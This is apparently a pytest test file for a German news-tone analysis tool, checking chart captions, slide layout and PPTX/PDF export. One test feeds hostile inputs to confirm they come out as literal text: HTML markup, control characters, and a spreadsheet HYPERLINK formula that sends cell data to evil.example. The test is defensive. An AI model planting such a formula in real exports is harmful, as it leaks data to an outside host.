"""Slide-ready output: chart images with their caption, and the meeting pack as PPTX and PDF.

The image tests need Chromium. Without it they are skipped with the reason, unless
TONLAGE_REQUIRE_BROWSER=1 (CI), where a missing browser is a failure.
"""

import io
import re
import shutil
import xml.etree.ElementTree as ET
from concurrent.futures import ThreadPoolExecutor

import pandas as pd
import plotly.graph_objects as go
import pytest
from PIL import Image

from tonlage import settings
from tonlage.report import deck, images
from tonlage.report.deck import ChartSlide, Pack, QuoteCard, pack_pdf, pack_pptx, slide_count
from tonlage.report.images import (
    SLIDE_HEIGHT,
    SLIDE_WIDTH,
    RenderUnavailable,
    render_figure,
    render_figures,
    renderer_status,
    stamp_caption,
)

CAPTION = [
    "Korpus <b>x</b> & Co · 12 Feb – 22 Oct 2025 · genre = commentary · 5 articles",
    "Tone: lexicon rules, Tonlage 0.4",
]
HOSTILE = "<b>x</b> & <font size=80>"


def app_like_figure(n_legend: int = 2) -> go.Figure:
    """A figure laid out like components/charts.py: legend resting on the bottom of the figure."""
    fig = go.Figure()
    for i in range(n_legend):
        fig.add_trace(
            go.Scatter(
                x=["2025-01-01", "2025-02-01", "2025-03-01"],
                y=[0.1 * i, -0.2, 0.3],
                mode="markers",
                name=f"Series {i} with a fairly long legend label",
            )
        )
    fig.update_layout(
        title=dict(text="Tone of each article over time", x=0, xanchor="left", font=dict(size=18)),
        xaxis=dict(title=dict(text="Publication date")),
        yaxis=dict(title=dict(text="Tone")),
        height=420,
        margin=dict(l=10, r=10, t=70, b=90),
        font=dict(size=14),
        legend=dict(orientation="h", yref="container", y=0, yanchor="bottom", xanchor="left", x=0),
    )
    return fig


# --- stamp_caption (no browser) ------------------------------------------------------------------


def _caption_note(fig):
    notes = [a for a in fig.layout.annotations if a.name == "caption"]
    assert len(notes) == 1
    return notes[0]


def test_caption_is_stamped_escaped_and_the_callers_figure_is_unchanged():
    fig = app_like_figure()
    before = fig.to_json()
    out = stamp_caption(fig, CAPTION)
    assert fig.to_json() == before  # the caller's figure is not touched
    assert out is not fig
    text = _caption_note(out).text
    assert "Korpus &lt;b&gt;x&lt;/b&gt; &amp; Co" in text and "<b>x</b>" not in text
    assert text.split("<br>")[1] == "Tone: lexicon rules, Tonlage 0.4"
    assert (out.layout.width, out.layout.height) == (SLIDE_WIDTH, SLIDE_HEIGHT)
    assert out.layout.font.size >= 16 and out.layout.title.font.size >= 22


def test_legend_moves_above_the_caption_and_the_margin_makes_room():
    fig = app_like_figure()
    out = stamp_caption(fig, CAPTION)
    cap_px = images._caption_height(2)
    assert cap_px > 2 * images.CAPTION_FONT_SIZE
    assert out.layout.legend.y == pytest.approx(cap_px / SLIDE_HEIGHT)
    assert out.layout.legend.yref == "container" and out.layout.legend.yanchor == "bottom"
    assert out.layout.margin.b >= 90 + cap_px
    note = _caption_note(out)
    # Hangs from the top of the plot area down to just above the bottom edge of the image.
    assert note.yref == "paper" and note.y == 1 and note.yanchor == "bottom"
    assert out.layout.margin.t - note.yshift == pytest.approx(SLIDE_HEIGHT - images._CAPTION_PAD)


def test_the_caption_starts_below_an_x_title_that_names_a_panel_s_axis():
    # Small multiples (the theme words) title one bottom panel's axis, not "xaxis".
    fig = go.Figure(go.Bar(x=[1], y=[1], xaxis="x2", yaxis="y2"))
    fig.update_layout(
        xaxis2=dict(domain=[0, 1], anchor="y2", title=dict(text="Weight in the theme<br>(% of shown terms)")),
        yaxis2=dict(domain=[0, 1], anchor="x2"),
        margin=dict(b=30),
    )
    out = stamp_caption(fig, ["one", "two"])
    assert out.layout.margin.b >= images._AXIS_ROOM + images._AXIS_LINE + images._caption_height(2)


def test_caption_lines_are_cleaned_broken_shortened_and_capped_at_five():
    out = stamp_caption(app_like_figure(), ["a\x00b\nc", "x" * 500, "three", "four", "five", "six"])
    rows = _caption_note(out).text.split("<br>")
    assert rows[0] == "a b c"
    # A line wider than the image goes on on a second row, which ends in "…" when still too long.
    row = len(rows[1])
    assert rows[1] == "x" * row and rows[2] == "x" * (row - 1) + "…"
    assert row * images.CAPTION_FONT_SIZE * images._CAPTION_CHAR_EM <= SLIDE_WIDTH - 2 * images._SIDE
    assert rows[3:] == ["three", "four", "five"] and images.CAPTION_MAX_LINES == 5


def test_a_long_caption_line_breaks_at_a_separator_and_keeps_every_word():
    corpus = "Korpus: x · vor Gipfel in Anchorage (01.02.2025 – 14.08.2025) gegenüber nach Gipfel in Anchorage"
    method = "Methode: Tonlage aus deutschem Polaritätslexikon mit Regeln (−1 bis +1) · Themen per NMF über TF-IDF"
    line = f"{corpus} · {method} · Tonlage 0.3.0"
    rows = _caption_note(stamp_caption(app_like_figure(), [line, "Filter: keine"])).text.split("<br>")
    assert len(rows) == 3 and rows[2] == "Filter: keine"
    assert rows[0].endswith("Anchorage") and rows[1].startswith("Methode:")  # broken at a " · "
    assert (rows[0] + " · " + rows[1]).split() == line.split()
    # A narrower image breaks sooner.
    narrow = stamp_caption(app_like_figure(), [corpus], width=500)
    assert len(_caption_note(narrow).text.split("<br>")) == 2


def test_no_caption_adds_no_annotation_and_a_paper_legend_below_the_plot_is_moved():
    fig = go.Figure(go.Bar(x=[1, 2], y=[3, 4], name="bars"))
    assert not [a for a in stamp_caption(fig, []).layout.annotations if a.name == "caption"]
    fig.update_layout(legend=dict(orientation="h", y=-0.2))
    out = stamp_caption(fig, "one line")
    assert out.layout.legend.yref == "container" and out.layout.legend.y > 0


def test_without_a_browser_the_reason_is_plain(monkeypatch, tmp_path):
    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "no-chromium-here"))
    ok, why = renderer_status()
    assert not ok and "Chromium" in why and "apt-get install chromium" in why
    with pytest.raises(RenderUnavailable, match="Chromium"):
        render_figure(app_like_figure(), caption=CAPTION)


@pytest.mark.skipif(shutil.which("false") is None, reason="no `false` program to stand in for a broken browser")
def test_a_browser_that_will_not_start_gives_a_plain_error_not_a_hang(monkeypatch):
    monkeypatch.setattr(images, "_RENDERER", images._Renderer())  # not the process-wide browser
    monkeypatch.setenv("BROWSER_PATH", shutil.which("false"))
    with pytest.raises(RenderUnavailable, match="could not be started"):
        render_figure(app_like_figure())
    ok, why = renderer_status()
    assert not ok and "could not be started" in why


def test_unknown_format_is_refused():
    with pytest.raises(ValueError):
        render_figures([(app_like_figure(), ())], fmt="gif")


# --- rendering (Chromium) --------------------------------------------------------------------------


def _browser_or_skip():
    ok, why = renderer_status()
    if not ok:
        if settings.value(settings.REQUIRE_BROWSER) == "1":
            pytest.fail(f"TONLAGE_REQUIRE_BROWSER=1 but images cannot be made: {why}")
        pytest.skip(why)


@pytest.fixture(scope="module")
def rendered():
    """Two PNGs (one call) and one SVG, the SVG made from a second thread at the same time."""
    _browser_or_skip()
    figs = [app_like_figure(4), go.Figure(go.Bar(x=["a", "b"], y=[1, 2]))]
    try:
        with ThreadPoolExecutor(2) as pool:
            svg = pool.submit(render_figure, figs[0], fmt="svg", caption=CAPTION)
            pngs = pool.submit(render_figures, [(f, CAPTION) for f in figs])
            return {"pngs": pngs.result(), "svg": svg.result()}
    except RenderUnavailable as e:
        if settings.value(settings.REQUIRE_BROWSER) == "1":
            raise
        pytest.skip(str(e))


def test_png_is_full_hd_and_one_per_figure(rendered):
    assert len(rendered["pngs"]) == 2
    for data in rendered["pngs"]:
        with Image.open(io.BytesIO(data)) as im:
            assert im.format == "PNG" and im.size == (1920, 1080)
    with Image.open(io.BytesIO(rendered["pngs"][0])) as im:
        # Something is drawn near the bottom edge (the caption), not just white.
        strip = im.convert("L").crop((0, 1080 - 60, 900, 1080 - 10))
        assert strip.getextrema()[0] < 200


def _translate(el) -> tuple[float, float]:
    m = re.search(r"translate\(([-\d.]+),\s*([-\d.]+)\)", el.get("transform", ""))
    return (float(m.group(1)), float(m.group(2))) if m else (0.0, 0.0)


def test_svg_has_slide_size_the_literal_caption_and_nothing_overlaps(rendered):
    root = ET.fromstring(rendered["svg"])
    assert float(root.get("width")) == SLIDE_WIDTH and float(root.get("height")) == SLIDE_HEIGHT
    text = "".join(root.itertext())
    assert "Korpus <b>x</b> & Co" in text and "Tonlage 0.4" in text
    ns = "{http://www.w3.org/2000/svg}"
    groups = list(root.iter(f"{ns}g"))
    legend = next(g for g in groups if g.get("class") == "legend")
    legend_top = _translate(legend)[1]
    legend_bottom = legend_top + float(
        next(r for r in legend.iter(f"{ns}rect") if r.get("class") == "bg").get("height")
    )
    caption = next(g for g in groups if g.get("class") == "annotation" and "Korpus" in "".join(g.itertext()))
    box = next(g for g in caption.iter(f"{ns}g") if g.get("class") == "cursor-pointer")
    caption_top = _translate(box)[1]
    caption_bottom = caption_top + float(next(r for r in box.iter(f"{ns}rect")).get("height"))
    x_title = next(t for t in root.iter(f"{ns}text") if t.get("class") == "xtitle")
    # x-axis title above the legend (two rows), legend above the caption, caption inside the image.
    assert float(x_title.get("y")) <= legend_top + 4
    assert legend_bottom <= caption_top + 1
    assert caption_bottom <= SLIDE_HEIGHT


# --- fitting a chart to the slide's plot (no browser, then Chromium) -------------------------------

# What Plotly writes for a figure's first subplot: the clip box of its axes.
SVG_XY = '<defs><clipPath class="axesclip" id="clip3a1f0cxy"><rect x="215" y="30" width="721" height="240"/></clipPath></defs>'


def test_paper_box_is_read_from_the_first_subplot_and_its_domain():
    assert images.paper_box(SVG_XY, {}) == (215.0, 30.0, 721.0, 240.0)
    # A first subplot on the right half of the paper, in its lower half.
    left, top, width, height = images.paper_box(SVG_XY, {"xaxis": {"domain": [0.5, 1]}, "yaxis": {"domain": [0, 0.5]}})
    assert (left, width) == (215 - 721, 2 * 721) and (top, height) == (30 - 240, 480)
    assert images.paper_box("<svg></svg>", {}) is None


def _rows_figure(names: list[str], y_title: str = "Tone") -> dict:
    fig = go.Figure(go.Bar(x=list(range(len(names))), y=names, orientation="h"))
    fig.update_layout(font=dict(size=16), yaxis=dict(title=dict(text=y_title)))
    return fig.to_dict()


def test_a_y_title_too_long_for_a_short_plot_goes_on_two_lines_then_gets_smaller():
    d = _rows_figure(["a", "b"], "Tone (−1 negative … +1 positive)")
    layout = d["layout"]
    assert not images._fit_y_axis(layout, d["data"], 500)  # room enough: untouched
    assert layout["yaxis"]["title"]["text"] == "Tone (−1 negative … +1 positive)"
    assert images._fit_y_axis(layout, d["data"], 300)
    assert layout["yaxis"]["title"]["text"] == "Tone (−1 negative<br>… +1 positive)"
    assert "size" not in layout["yaxis"]["title"].get("font", {})  # two lines were enough
    assert images._fit_y_axis(layout, d["data"], 120)
    size = layout["yaxis"]["title"]["font"]["size"]
    assert images._MIN_TICK_FONT <= size < 16 and size * len("… +1 positive)") * images._AXIS_TITLE_EM <= 120


def test_crowded_row_names_get_smaller_and_then_every_kth_is_named_whole_on_one_line():
    themes = [f"Theme {i}: Regierung ·<br>Streit · Thema {i}" for i in range(12)]
    d = _rows_figure(themes)
    assert images._fit_y_axis(d["layout"], d["data"], 360)
    size = d["layout"]["yaxis"]["tickfont"]["size"]
    assert images._MIN_TICK_FONT <= size < 16 and 12 * 2 * size * images._ROW_LINE <= 360
    assert "tickvals" not in d["layout"]["yaxis"]  # every theme still named
    articles = [f"Artikel {i}<br>2025-02-{i + 1:02d}" for i in range(30)]
    d = _rows_figure(articles)
    assert images._fit_y_axis(d["layout"], d["data"], 220)
    axis = d["layout"]["yaxis"]
    assert axis["tickfont"]["size"] == images._MIN_TICK_FONT and axis["tickmode"] == "array"
    every = 30 // len(axis["tickvals"])
    assert every >= 2 and axis["tickvals"] == articles[::every]
    assert axis["ticktext"] == [f"Artikel {i} 2025-02-{i + 1:02d}" for i in range(0, 30, every)]
    assert len(axis["ticktext"]) * images._MIN_TICK_FONT * images._ROW_LINE <= 220
    # Rows in an order of their own (actors by mentions, drawn as one trace per kind): every
    # k-th in that order, not in the traces' order.
    d = _rows_figure(articles)
    d["data"][0]["y"] = articles[::-1]
    d["layout"]["yaxis"].update(categoryorder="array", categoryarray=articles)
    assert images._fit_y_axis(d["layout"], d["data"], 220)
    assert d["layout"]["yaxis"]["tickvals"] == articles[::every]
    # A numeric axis and a few short names are left alone.
    numeric = go.Figure(go.Scatter(x=[1, 2], y=[0.1, 0.2])).to_dict()
    assert not images._fit_y_axis(numeric["layout"], numeric["data"], 100)
    few = _rows_figure(["Trump", "Putin", "Rubio"])
    assert not images._fit_y_axis(few["layout"], few["data"], 300)


def test_a_large_legend_gets_smaller_and_a_horizontal_legend_s_title_goes_on_top():
    fig = app_like_figure(12)
    fig.update_layout(legend_title_text="The 8 largest of 12 themes are drawn")
    layout = stamp_caption(fig, CAPTION).to_dict()["layout"]
    assert layout["legend"]["title"]["side"] == "top"  # beside the entries they ran off the edge
    assert images._smaller_legend(layout)
    assert layout["legend"]["font"]["size"] == layout["legend"]["title"]["font"]["size"] == 13 < layout["font"]["size"]
    assert not images._smaller_legend(layout)  # already small
    hidden = stamp_caption(app_like_figure().update_layout(showlegend=False), CAPTION).to_dict()["layout"]
    assert not images._smaller_legend(hidden)


@pytest.fixture(scope="module")
def long_names_svg():
    """A slide of a chart whose row names are long (the Compare page's in German)."""
    _browser_or_skip()
    names = ["vor Gipfel in Anchorage und danach", "nach Gipfel in Anchorage und davor", "Veränderung (2. − 1.)"]
    fig = go.Figure(go.Scatter(x=[0.05, -0.04, -0.08], y=names, mode="markers"))
    fig.update_layout(margin=dict(l=10, r=10, t=30, b=20), font=dict(size=14))
    caption = [CAPTION[0] + " · gegenüber einem zweiten Zeitraum mit einem langen Namen", CAPTION[1]]
    try:
        return render_figure(fig, fmt="svg", caption=caption)
    except RenderUnavailable as e:
        if settings.value(settings.REQUIRE_BROWSER) == "1":
            raise
        pytest.skip(str(e))


def test_the_caption_starts_at_the_image_edge_not_behind_long_row_names(long_names_svg):
    root = ET.fromstring(long_names_svg)
    ns = "{http://www.w3.org/2000/svg}"
    left = images.paper_box(long_names_svg.decode(), {})[0]
    assert left > 150  # the row names pushed the plot far right
    caption = next(
        g for g in root.iter(f"{ns}g") if g.get("class") == "annotation" and "Korpus" in "".join(g.itertext())
    )
    box = next(g for g in caption.iter(f"{ns}g") if g.get("class") == "cursor-pointer")
    x = _translate(box)[0]
    width = float(next(r for r in box.iter(f"{ns}rect")).get("width"))
    assert abs(x - images._SIDE) <= 4 and x + width <= SLIDE_WIDTH
    rows = [t for t in caption.iter(f"{ns}tspan") if t.get("class") == "line"]
    assert len(rows) >= 3  # the long first line went on on a second row


# --- the pack --------------------------------------------------------------------------------------

HEADINGS = dict(
    findings="Befunde",
    quotes="Zitate",
    method="Methode",
    limits="Grenzen",
    tone="Ton",
    no_image="Keine Diagrammbilder auf diesem Server; hier die Daten.",
    made_with="Erstellt mit Tonlage",
    quote_open="„",
    quote_close="“",
)
FINDING_UMLAUT = "Ton gegenüber Putin … −0,12"


def tiny_png() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (160, 90), "#0072B2").save(buf, format="PNG")
    return buf.getvalue()


def make_pack(**over) -> Pack:
    table = pd.DataFrame(
        {
            "Woche": pd.date_range("2025-02-10", periods=20, freq="W-MON"),
            "Ton": [-0.12] * 20,
            "Artikel": range(20),
            "Hinweis": [HOSTILE] * 20,
            "a": 1,
            "b": 2,
            "c": 3,
        }
    )
    base = dict(
        title="Ukraine-Berichterstattung 2025",
        subtitle="Mitgelieferter Korpus · 12. Feb. – 22. Okt. 2025 · 5 Artikel",
        headings=HEADINGS,
        charts=[
            ChartSlide("Ton im Zeitverlauf", tiny_png(), "Korpus · 2025 · 5 Artikel", "Jeder Punkt ist ein Artikel."),
            ChartSlide("Ton pro Woche", None, "Korpus · 2025 · 5 Artikel", "Die Daten dahinter.", table=table),
        ],
        findings=[
            f"{FINDING_UMLAUT}: überwiegend negativ.",
            "Kommentare sind negativer als Berichte.",
            "Nach dem Gipfel wird der Ton freundlicher.",
        ],
        quotes=[
            QuoteCard(
                f"Zitat Nummer {i} über die Lage.",
                f"Titel {i}",
                "Anna Müller",
                "2025-03-04",
                -0.12 if i else None,
                "Die Zeit",
            )
            for i in range(4)
        ],
        method=["Ton: Lexikon-Regeln mit Verneinung.", "Werte von −1 bis +1."],
        limits=["Ironie wird nicht erkannt."],
        date_made="30. Oktober 2025",
    )
    base.update(over)
    return Pack(**base)


def pptx_texts(data: bytes) -> list[str]:
    from pptx import Presentation

    prs = Presentation(io.BytesIO(data))
    out = []
    for slide in prs.slides:
        parts = []
        for shape in slide.shapes:
            if shape.has_text_frame:
                parts.append(shape.text_frame.text)
            if shape.has_table:
                parts += [c.text for r in shape.table.rows for c in r.cells]
        out.append(" ".join(" ".join(parts).split()))
    return out


def pdf_pages(data: bytes):
    import pypdf

    reader = pypdf.PdfReader(io.BytesIO(data))
    return reader.pages, [" ".join(p.extract_text().split()) for p in reader.pages]


def test_slide_count_counts_every_part():
    pack = make_pack()
    assert slide_count(pack) == 1 + 2 + 1 + 2 + 1
    assert slide_count(make_pack(findings=[], quotes=[], charts=[])) == 2
    assert (
        slide_count(make_pack(findings=[f"F{i}" for i in range(7)], quotes=[pack.quotes[0]] * 7)) == 1 + 2 + 2 + 3 + 1
    )
    assert slide_count(make_pack(findings=["", "  ", "real"])) == 1 + 2 + 1 + 2 + 1  # blanks are dropped


def test_the_writers_make_exactly_slide_count_slides():
    from pptx import Presentation

    for pack in (
        make_pack(findings=[], quotes=[], charts=[]),
        make_pack(findings=[f"F{i}" for i in range(13)], quotes=[make_pack().quotes[0]] * 7),
    ):
        prs = Presentation(io.BytesIO(pack_pptx(pack)))
        assert len(prs.slides) == slide_count(pack) == len(pdf_pages(pack_pdf(pack))[0])


def test_pptx_has_the_slides_and_the_text():
    from pptx import Presentation

    pack = make_pack()
    data = pack_pptx(pack)
    prs = Presentation(io.BytesIO(data))
    assert len(prs.slides) == slide_count(pack)
    assert (prs.slide_width, prs.slide_height) == (12192000, 6858000)  # 13.333 x 7.5 in
    texts = pptx_texts(data)
    everything = " ".join(texts)
    assert pack.title in texts[0] and "Erstellt mit Tonlage" in texts[0] and "30. Oktober 2025" in texts[0]
    for finding in pack.findings:
        assert finding in everything
    for q in pack.quotes:
        assert f"„{q.text}“" in everything
    assert "Ton −0.12" in everything
    for line in [*pack.method, *pack.limits]:
        assert line in everything
    assert "Keine Diagrammbilder" in texts[2] and HOSTILE in texts[2] and "−0.12" in texts[2]
    # every slide but the first has a real title
    assert [s.shapes.title.text_frame.text for s in prs.slides][1:3] == ["Ton im Zeitverlauf", "Ton pro Woche"]
    pictures = [sh for sh in prs.slides[1].shapes if sh.shape_type == 13]
    assert len(pictures) == 1 and pictures[0].width / pictures[0].height == pytest.approx(16 / 9, rel=0.02)
    table = next(sh for sh in prs.slides[2].shapes if sh.has_table).table
    assert len(table.rows) == deck.TABLE_ROWS + 1 and len(table.columns) == deck.TABLE_COLUMNS


def test_every_shape_stays_on_its_slide():
    from pptx import Presentation

    prs = Presentation(io.BytesIO(pack_pptx(make_pack(title="T " * 400))))
    for slide in prs.slides:
        for shape in slide.shapes:
            assert shape.left >= 0 and shape.top >= 0
            assert shape.left + shape.width <= prs.slide_width
            assert shape.top + shape.height <= prs.slide_height


def test_pdf_has_one_landscape_16_9_page_per_slide_and_the_text():
    pack = make_pack()
    pages, texts = pdf_pages(pack_pdf(pack))
    assert len(pages) == slide_count(pack)
    for page in pages:
        w, h = float(page.mediabox.width), float(page.mediabox.height)
        assert w > h and w / h == pytest.approx(16 / 9, rel=0.001)
    everything = " ".join(texts)
    assert pack.title in texts[0]
    assert FINDING_UMLAUT in everything  # umlaut, ellipsis and real minus survive
    assert "„Zitat Nummer 1 über die Lage.“" in everything
    assert "Ironie wird nicht erkannt." in everything
    assert "Keine Diagrammbilder" in texts[2] and HOSTILE in texts[2]


def test_hostile_text_goes_through_both_writers_literally():
    long_quote = ("Die Regierung hat erneut betont, dass sie am Kurs festhalte. " * 60)[:3000]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
    pack = make_pack(
        title=HOSTILE,
        subtitle="\x00\x07 control \x1b[31m",
        findings=[HOSTILE, "\x00\x07 control", formula],
        quotes=[
            QuoteCard(long_quote, HOSTILE, "\x00\x07 control", "2025", 0.3),
            QuoteCard(HOSTILE, formula, "x", "", None),
        ],
        method=[HOSTILE],
        limits=["\ud800 lone surrogate \ufffe"],
    )
    pptx = pack_pptx(pack)
    texts = pptx_texts(pptx)
    everything = " ".join(texts)
    assert texts[0].startswith(HOSTILE)
    assert formula in everything and "\x00" not in everything and "\x07" not in everything
    assert "control" in everything and "lone surrogate" in everything
    quote = next(t for t in texts if "Die Regierung" in t)
    shown = quote[quote.index("„") : quote.index("“") + 1]
    assert 100 < len(shown) < 1000 and shown.endswith("…“")  # cut, at a word boundary
    assert shown[-3] != " " and long_quote.startswith(shown[1:-2])

    pages, ptexts = pdf_pages(pack_pdf(pack))
    assert len(pages) == slide_count(pack)
    pdf_all = " ".join(ptexts)
    assert ptexts[0].startswith(HOSTILE)  # shown literally, not read as markup
    assert pdf_all.count(HOSTILE) >= 4
    assert formula in pdf_all and "\x07" not in pdf_all
    assert "…“" in pdf_all


def test_long_titles_are_shortened_and_glyphs_the_font_lacks_are_replaced():
    pack = make_pack(
        charts=[ChartSlide("Ein sehr langer Titel " * 20, tiny_png(), "c", "w")], limits=["Łódź, Śląsk → 😀"]
    )
    texts = pptx_texts(pack_pptx(pack))
    heading = texts[1].split(" 2 / ")[0]
    assert heading.endswith("…") and len(heading) < 100
    _, ptexts = pdf_pages(pack_pdf(pack))
    assert "Łódz, Slask -> ?" in ptexts[-1]  # ź ą ś → z a s (Vera lacks them), emoji → ?


def test_an_image_that_is_not_one_becomes_the_table():
    table = pd.DataFrame({"Woche": ["2025-01"], "Ton": [0.5]})
    pack = make_pack(charts=[ChartSlide("Kaputt", b"not a png", "c", "w", table=table)])
    texts = pptx_texts(pack_pptx(pack))
    assert "Keine Diagrammbilder" in texts[1] and "0.50" in texts[1]
    assert len(pdf_pages(pack_pdf(pack))[0]) == slide_count(pack)


def test_missing_headings_are_named():
    with pytest.raises(ValueError, match="no_image"):
        pack_pptx(make_pack(headings={k: v for k, v in HEADINGS.items() if k != "no_image"}))


def test_an_exported_tone_chart_keeps_its_tone_lines_under_the_view_s_three():
    """A tone chart's caption is the view's three lines, then how far the tone agrees with a
    reader and what a reader corrected: with three lines at most, the image lost the tone's."""
    from tonlage.i18n import translator
    from tonlage.present.pack import caption_lines, with_tone_stamp

    tr = translator("en")
    view = caption_lines(corpus="Korpus", period="Feb–Oct 2025", filters="no filters", n_articles=5, version="1", tr=tr)
    params = {"tone_review": {"words": 2, "sentences_set": 1, "band": None}}
    text = _caption_note(stamp_caption(app_like_figure(), with_tone_stamp(view, params, tr))).text
    lines = text.split("<br>")
    assert len(lines) == 5 and lines[0].startswith("Corpus: Korpus")
    assert lines[3] == "Tone unchecked on this corpus: no sentence has been checked against a reader yet."
    assert lines[4] == "Corrected by a reader: 2 words of its word list, 1 sentence set by hand."
    plain = _caption_note(stamp_caption(app_like_figure(), with_tone_stamp(view, {}, tr))).text
    assert len(plain.split("<br>")) == 4  # nothing corrected: no line saying so


def test_the_method_slide_shows_a_corrected_corpus_s_nine_bullets_whole_in_one_size():
    from tonlage.i18n import translator
    from tonlage.present.pack import limits_lines, method_lines
    from tonlage.report.deck.plan import TextBox, plan_slides

    de = translator("de")
    review = {"word_list": [("Krise", "neutral"), ("Erfolg", "neutral")], "sentences_set": 2, "band": 0.12}
    params = {"n_themes": 12, "version": "0.3.0", "tone_review": {**review, "model_band": 0.1}}
    method, limits = method_lines(params, de), limits_lines(de, 5)
    assert len(method) == 9
    slide = plan_slides(make_pack(method=method, limits=limits))[-1]
    boxes = [i for i in slide.items if isinstance(i, TextBox) and i.bullets]
    assert [b.paragraphs for b in boxes] == [method, limits]  # nothing cut, no "…"
    assert boxes[0].size == boxes[1].size and 11 <= boxes[0].size < 15
    # Few bullets keep the full size.
    short = plan_slides(make_pack())[-1]
    assert {i.size for i in short.items if isinstance(i, TextBox) and i.bullets} == {15.0}


# --- a date axis a month a tick ----------------------------------------------------------------------


def _months_figure(value: str = "%b %Y") -> go.Figure:
    """Eleven months, a tick each, labelled as the app's English timeline labels them
    (tonlage.present.charts.base)."""
    days = pd.date_range("2025-02-01", "2025-12-01", freq="MS")
    fig = go.Figure(go.Scatter(x=days, y=[0.1] * len(days), mode="markers"))
    stops = [dict(dtickrange=["M1", "M12"], value=value)]
    fig.update_layout(xaxis=dict(title=dict(text="Publication date"), dtick="M1", tickformatstops=stops))
    return fig


def test_on_a_slide_a_month_tick_puts_its_year_on_a_second_line_and_the_axis_gets_room():
    fig = _months_figure()
    before = fig.to_json()
    out = stamp_caption(fig, ["one"])
    assert fig.to_json() == before  # the caller's figure keeps its one-line ticks
    assert [s.value for s in out.layout.xaxis.tickformatstops] == ["%b\n%Y"]
    one_line = stamp_caption(_months_figure("%m/%Y"), ["one"])  # German ticks are short already
    assert [s.value for s in one_line.layout.xaxis.tickformatstops] == ["%m/%Y"]
    assert out.layout.margin.b >= images._AXIS_ROOM + images._AXIS_LINE + images._caption_height(1)
    assert out.layout.margin.b > one_line.layout.margin.b


def test_eleven_months_on_a_slide_are_written_level_with_the_year_once():
    """At the slide's 16 px, "Feb 2025" x 11 were turned 30 degrees and took the plot's room."""
    _browser_or_skip()
    ns = "{http://www.w3.org/2000/svg}"

    def ticks(value: str) -> list[tuple[str, str]]:
        root = ET.fromstring(render_figure(_months_figure(value), fmt="svg", caption=["one"]).decode())
        texts = [t for g in root.iter(f"{ns}g") if g.get("class") == "xtick" for t in g.iter(f"{ns}text")]
        return [(" ".join(t.itertext()).strip(), t.get("transform") or "") for t in texts]

    labels = ticks("%b %Y")
    assert [label for label, _ in labels] == [
        "Feb 2025",
        "Mar",
        "Apr",
        "May",
        "Jun",
        "Jul",
        "Aug",
        "Sep",
        "Oct",
        "Nov",
        "Dec",
    ]
    assert not any("rotate" in transform for _, transform in labels)
    # the same axis with the year on every label, as before, is turned
    assert all("rotate" in transform for _, transform in ticks("%b %Y "))


def test_a_finding_to_read_with_care_keeps_its_warning_sign_on_both_slides():
    from tonlage.findings import CAUTION_CAVEATS, Finding

    sure = Finding("overall_tone", {"word": "positive", "tone": 0.2, "sentences": 40, "articles": 8}, "c", (), (), 1.0)
    values = {"variant": "uncertain_positive", "tone": 0.2, "sentences": 40, "articles": 8, "low": -0.1, "high": 0.5}
    unsure = Finding("overall_tone", values, "c", (), (), 1.0, "uncertain")
    month = Finding("overall_tone", {**sure.values}, "c", (), (), 1.0, "month_dates")
    assert {"thin", "uncertain", "copies"} == CAUTION_CAVEATS
    assert unsure.marked("de") == "⚠ " + unsure.text("de") and unsure.cautious
    assert sure.marked("de") == sure.text("de") and month.marked("de") == month.text("de")  # a note, not a warning
    pack = make_pack(findings=[unsure.marked("de"), sure.marked("de")])
    assert "⚠ Die Wortwahl der Artikel in der Auswahl neigt ins Positive" in " ".join(pptx_texts(pack_pptx(pack)))
    # Vera has no ⚠: the PDF writes "(!)", never a "?" or an empty box.
    pdf = " ".join(pdf_pages(pack_pdf(pack))[1])
    assert "(!) Die Wortwahl der Artikel in der Auswahl neigt ins Positive" in pdf
    assert "? Die Wortwahl" not in pdf


def test_beside_a_chart_two_long_findings_are_two_paragraphs_shown_whole():
    """The text beside a chart is the chart's findings, one a line. Two long ones (the Compare
    page's actor tone shifts run to ~300 characters each) and the app's longest text of the
    reader's own (600 characters) are shown whole in smaller type, never cut with "…"; a short
    text keeps the full size."""
    from tonlage.report.deck.layout import BODY_TOP
    from tonlage.report.deck.plan import SIDE_MIN_SIZE, SIDE_SIZE, TextBox, plan_slides

    def side(text: str) -> TextBox:
        slide = plan_slides(make_pack(charts=[ChartSlide("Ton", tiny_png(), "c", text)]))[1]
        return [i for i in slide.items if isinstance(i, TextBox) and i.x > 600 and i.y == BODY_TOP][0]

    one = (
        "⚠ Sätze, die Lawrow nennen: +0,46 → +0,15 vor und nach „Gipfel in Anchorage“ (5 gegen 19 Sätze); "
        "das 95-%-Intervall der Änderung, −0,89 … +0,26, schließt 0 ein, also ist dies keine klare Änderung. "
        "Das Intervall ist breiter, weil 6 Akteure zugleich verglichen wurden."
    )
    two = one.replace("Lawrow", "die Ukraine").replace("+0,46 → +0,15", "+0,03 → −0,12")
    box = side(f"{one}\n{two}")
    assert box.paragraphs == [one, two]
    assert SIDE_MIN_SIZE <= box.size < SIDE_SIZE
    own = ("Wörter " * 100)[:600].strip()
    assert side(own).paragraphs == [own]
    short = side("Jeder Punkt ist ein Artikel.")
    assert short.paragraphs == ["Jeder Punkt ist ein Artikel."] and short.size == SIDE_SIZE
    # Blank lines of the reader's text make no empty paragraphs.
    assert side("Erstens.\n\n  \nZweitens.").paragraphs == ["Erstens.", "Zweitens."]


def test_a_long_caption_under_a_chart_is_shown_whole_in_smaller_type():
    """The caption line under a chart slide (corpus, two periods, filters, method, the tone's
    check) ran past two lines at 11 pt in German comparisons and lost its end; it now gets
    smaller, down to 8 pt on three lines, before anything is cut. A short one stays at 11 pt."""
    from tonlage.report.deck.plan import TextBox, plan_slides

    def foot(caption: str) -> TextBox:
        slide = plan_slides(make_pack(charts=[ChartSlide("Ton", tiny_png(), caption, "w")]))[1]
        return [i for i in slide.items if isinstance(i, TextBox) and i.y == 492.0][0]

    long = (
        "Korpus: Mitgeliefertes Beispielkorpus · vor Gipfel in Anchorage (01.02.2025 – 14.08.2025) gegenüber "
        "nach Gipfel in Anchorage (15.08.2025 – 21.10.2025) · Filter: keine Filter · 5 Artikel · Methode: "
        "Tonlage aus deutschem Polaritätslexikon mit Regeln (−1 bis +1) · Themen per NMF über TF-IDF · "
        "Tonlage 0.3.0 · 05.12.2026 · Tonlage in diesem Korpus ungeprüft: Noch kein Satz wurde mit einem "
        "Leser abgeglichen."
    )
    box = foot(long)
